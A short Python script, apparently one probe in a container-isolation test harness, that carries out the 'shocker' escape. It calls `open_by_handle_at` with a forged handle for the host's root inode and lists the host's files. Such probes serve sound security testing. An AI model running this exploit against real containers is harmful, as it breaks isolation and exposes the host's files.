"""Opens the host's files by their inode's handle, past every path: the shocker escape of containers."""

import ctypes
import os

from attack import DATA, OUTPUT, attempt

libc = ctypes.CDLL(None, use_errno=True)


def root_by_handle():
    handle = (ctypes.c_ubyte * 16)(8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0)
    found = libc.open_by_handle_at(os.open(OUTPUT, os.O_RDONLY), handle, os.O_RDONLY)
    return found > 0 and os.listdir(found)


attempt(root_by_handle)
